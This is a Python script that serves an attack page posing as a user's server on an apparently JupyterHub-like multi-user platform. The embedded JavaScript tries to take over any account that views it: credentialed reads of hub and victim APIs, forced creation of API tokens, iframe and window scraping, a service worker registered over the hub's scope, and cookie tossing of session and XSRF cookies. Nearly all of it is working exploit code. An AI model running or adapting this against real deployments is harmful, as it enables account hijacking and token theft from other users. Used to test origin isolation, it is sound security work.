"""What a user runs in place of their server: pages that try to take whatever account looks at them.

Started as `python3 -c THIS PORT`; what the page has reached stands in it as JSON.
"""

import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><title>plots</title><body><pre id=loot></pre><script>
const given = new URLSearchParams(location.search), hub = given.get("hub"), victim = given.get("victim");
const loot = {};
const attempt = async (name, act) => {
  try { loot[name] = String(await act()).slice(0, 300); }
  catch (error) { loot[name] = "refused: " + error.name; }
};
const look = (url) => async () => {
  const answer = await fetch(url, {credentials: "include"});
  return answer.status + " " + await answer.text();
};
const loaded = (element, url) => new Promise((resolve) => {
  element.onload = resolve;
  element.onerror = resolve;
  element.src = url;
  document.body.append(element);
});
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
(async () => {
  await attempt("own page", look(location.pathname));
  await attempt("hub page", look(hub + "/hub/home"));
  await attempt("hub api", look(hub + "/hub/api/user"));
  await attempt("victim's server", look(victim + "api/contents"));
  await attempt("made token", async () => {
    const options = {method: "POST", credentials: "include", body: "{}"};
    return (await fetch(hub + "/hub/api/users/" + given.get("name") + "/tokens", options)).text();
  });
  await attempt("blind post", async () => {
    const options = {method: "POST", mode: "no-cors", credentials: "include", body: "{}"};
    const answer = await fetch(hub + "/hub/api/users/" + given.get("name") + "/tokens", options);
    return "sent blindly, answer: " + answer.type;
  });
  await attempt("window", async () => {
    const opened = window.open(hub + "/hub/home");
    if (!opened) throw new DOMException("no window", "NoWindow");
    await later(3000);
    return opened.document.documentElement.outerHTML;
  });
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    await loaded(frame, hub + "/hub/home");
    return frame.contentWindow.document.body.innerHTML;
  });
  await attempt("frame of the victim's server", async () => {
    const frame = document.createElement("iframe");
    await loaded(frame, victim + "lab");
    return frame.contentWindow.document.body.innerHTML;
  });
  await attempt("script of the hub", async () => {
    const script = document.createElement("script");
    await loaded(script, hub + "/hub/home");
    return JSON.stringify(window.jhdata);
  });
  await attempt("worker for the hub", async () => {
    const made = await navigator.serviceWorker.register(location.pathname + "?worker", {scope: hub + "/"});
    return "registered for " + made.scope;
  });
  await attempt("worker from the hub's host", async () => {
    const path = hub + location.pathname + "?worker";
    return "registered for " + (await navigator.serviceWorker.register(path)).scope;
  });
  await attempt("cookies", () => {
    const above = location.hostname.split(".").slice(1).join(".");
    const known = ["__Host-jupyterhub-hub-login", "jupyterhub-hub-login", "jupyterhub-session-id", "_xsrf"];
    for (const name of known)
      for (const domain of [above, new URL(hub).hostname])
        document.cookie = `${name}=planted; domain=${domain}; path=/; secure`;
    return document.cookie;
  });
  document.getElementById("loot").textContent = JSON.stringify(loot);
})();
</script>"""

WORKER = "self.addEventListener('fetch', (event) => event.respondWith(new Response('caught')));"


class Server(BaseHTTPRequestHandler):
    """Answers anybody, whatever they ask for."""

    def do_GET(self) -> None:
        worker = self.path.endswith("?worker")
        body = (WORKER if worker else PAGE).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), Server).serve_forever()
